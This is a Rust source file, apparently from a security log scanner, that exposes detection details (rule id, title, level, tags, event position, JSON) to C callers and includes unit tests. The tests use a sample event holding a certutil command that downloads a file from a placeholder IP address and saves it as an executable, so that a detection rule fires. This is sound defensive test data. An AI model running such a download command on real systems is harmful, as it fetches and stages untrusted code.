//! `lw_detection`: one detection, lent to the callback.
//!
//! The C strings are made on first ask, not when the detection is handed
//! over: a filter that reads only the rule id, or only the JSON, pays for
//! that alone.

use std::cell::OnceCell;
use std::ffi::{c_char, CString};

use crate::error::c_string;

/// A detection, valid only during the `lw_on_detection` callback that
/// receives it (copy what you keep). Its strings are UTF-8 and
/// NUL-terminated, and valid until the callback returns.
pub struct lw_detection<'a> {
    d: &'a lw::Detection,
    rule: OnceCell<CString>,
    title: OnceCell<CString>,
    tags: OnceCell<Vec<CString>>,
    json: OnceCell<CString>,
}

impl<'a> lw_detection<'a> {
    pub(crate) fn new(d: &'a lw::Detection) -> lw_detection<'a> {
        lw_detection { d, rule: OnceCell::new(), title: OnceCell::new(), tags: OnceCell::new(), json: OnceCell::new() }
    }

    fn tags(&self) -> &[CString] {
        self.tags.get_or_init(|| self.d.tags.iter().map(|t| c_string(t)).collect())
    }
}

/// The rule's (or correlation's) id; "" for NULL.
///
/// # Safety
/// `d` is NULL or the detection a callback received, during that callback.
#[no_mangle]
pub unsafe extern "C" fn lw_detection_rule(d: *const lw_detection<'_>) -> *const c_char {
    // SAFETY: the caller's contract.
    unsafe { d.as_ref() }.map_or(c"".as_ptr(), |d| d.rule.get_or_init(|| c_string(&d.d.rule)).as_ptr())
}

/// The rule's title; "" for NULL.
///
/// # Safety
/// As lw_detection_rule.
#[no_mangle]
pub unsafe extern "C" fn lw_detection_title(d: *const lw_detection<'_>) -> *const c_char {
    // SAFETY: the caller's contract.
    unsafe { d.as_ref() }.map_or(c"".as_ptr(), |d| d.title.get_or_init(|| c_string(&d.d.title)).as_ptr())
}

/// "informational", "low", "medium", "high" or "critical" (a static
/// string); "" for NULL.
///
/// # Safety
/// As lw_detection_rule.
#[no_mangle]
pub unsafe extern "C" fn lw_detection_level(d: *const lw_detection<'_>) -> *const c_char {
    // SAFETY: the caller's contract.
    unsafe { d.as_ref() }.map_or(c"".as_ptr(), |d| level_name(d.d.level).as_ptr())
}

fn level_name(level: lw::Level) -> &'static std::ffi::CStr {
    match level {
        lw::Level::Informational => c"informational",
        lw::Level::Low => c"low",
        lw::Level::Medium => c"medium",
        lw::Level::High => c"high",
        lw::Level::Critical => c"critical",
    }
}

/// How many tags the rule has (0 for NULL).
///
/// # Safety
/// As lw_detection_rule.
#[no_mangle]
pub unsafe extern "C" fn lw_detection_tag_count(d: *const lw_detection<'_>) -> usize {
    // SAFETY: the caller's contract.
    unsafe { d.as_ref() }.map_or(0, |d| d.d.tags.len())
}

/// Tag `i` (from 0); NULL when `i` is not below the count.
///
/// # Safety
/// As lw_detection_rule.
#[no_mangle]
pub unsafe extern "C" fn lw_detection_tag(d: *const lw_detection<'_>, i: usize) -> *const c_char {
    // SAFETY: the caller's contract.
    match unsafe { d.as_ref() }.and_then(|d| d.tags().get(i)) {
        Some(t) => t.as_ptr(),
        None => std::ptr::null(),
    }
}

/// The position of the event that made the detection in its scanner's
/// stream: 0 for the first event given to `lw_scanner_scan_json`, rejected
/// ones counted, so for a filter fed one event a line it is the line
/// number minus 1. For a correlation it is the event that completed it,
/// which an earlier call may have scanned: correlations are handed over
/// once the lateness has passed. 0 for NULL.
///
/// # Safety
/// As lw_detection_rule.
#[no_mangle]
pub unsafe extern "C" fn lw_detection_event(d: *const lw_detection<'_>) -> u64 {
    // SAFETY: the caller's contract.
    unsafe { d.as_ref() }.map_or(0, |d| d.d.event)
}

/// The whole detection as one JSON object: the object `landwatch scan
/// --format jsonl` writes for it (rule, title, level, tags, time, host,
/// user, channel, event_id, record, file, line, evidence, and for a
/// correlation group, window, count, values, value, events). Valid during
/// the callback; "" for NULL.
///
/// # Safety
/// As lw_detection_rule.
#[no_mangle]
pub unsafe extern "C" fn lw_detection_json(d: *const lw_detection<'_>) -> *const c_char {
    // SAFETY: the caller's contract.
    unsafe { d.as_ref() }.map_or(c"".as_ptr(), |d| d.json.get_or_init(|| json_c_string(d.d)).as_ptr())
}

/// `d.to_json()` as a C string, written straight into the C string's
/// buffer rather than made and then copied: the JSON writer escapes U+0000
/// (`\u0000`), so the text has no NUL inside; were one there, it would
/// go the way of every other string.
fn json_c_string(d: &lw::Detection) -> CString {
    let mut buf = Vec::with_capacity(512);
    match d.write_json(&mut buf).ok().and_then(|()| CString::new(buf).ok()) {
        Some(json) => json,
        None => c_string(&d.to_json()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::ffi::CStr;

    #[test]
    fn the_json_is_the_cli_object_and_levels_are_named() {
        let rules = lw::RulesBuilder::new().add_builtin().build().unwrap();
        let mut s = lw::Scanner::new(std::sync::Arc::new(rules));
        let ev = br#"{"EventID":1,"Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -split -f http://203.0.113.9/a.txt a.exe","Computer":"ws1"}"#;
        let found = s.scan_json(ev).unwrap();
        assert!(!found.is_empty());
        for f in &found {
            let det = lw_detection::new(f);
            let json = unsafe { CStr::from_ptr(lw_detection_json(&det)) }.to_str().unwrap();
            let v: serde_json::Value = serde_json::from_str(json).unwrap();
            assert_eq!(v["rule"], f.rule.as_str());
            assert_eq!(v["host"], "ws1");
            assert_eq!(json, f.to_json());
            let level = unsafe { CStr::from_ptr(lw_detection_level(&det)) }.to_str().unwrap();
            assert_eq!(level, f.level.as_str());
            assert_eq!(unsafe { lw_detection_tag_count(&det) }, f.tags.len());
            assert!(unsafe { lw_detection_tag(&det, f.tags.len()) }.is_null());
        }
        assert_eq!(unsafe { CStr::from_ptr(lw_detection_json(std::ptr::null())) }.to_bytes(), b"");
    }

    #[test]
    fn a_nul_in_the_event_is_escaped_in_the_json_and_replaced_in_strings() {
        let rules = lw::RulesBuilder::new().add_builtin().build().unwrap();
        let mut s = lw::Scanner::new(std::sync::Arc::new(rules));
        let ev = br#"{"EventID":1,"Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -split -f http://203.0.113.9/a.txt a.exe","Computer":"ws\u00001"}"#;
        let found = s.scan_json(ev).unwrap();
        assert!(!found.is_empty());
        for f in &found {
            assert_eq!(f.host.as_deref(), Some("ws\u{0}1"));
            let det = lw_detection::new(f);
            let json = unsafe { CStr::from_ptr(lw_detection_json(&det)) }.to_str().unwrap();
            assert_eq!(json, f.to_json());
            assert!(json.contains(r#""host":"ws\u00001""#), "{json}");
        }
        assert_eq!(c_string("ws\u{0}1").to_str().unwrap(), "ws\u{fffd}1");
        assert_eq!(c_string("ws1").to_bytes_with_nul(), b"ws1\0");
    }
}
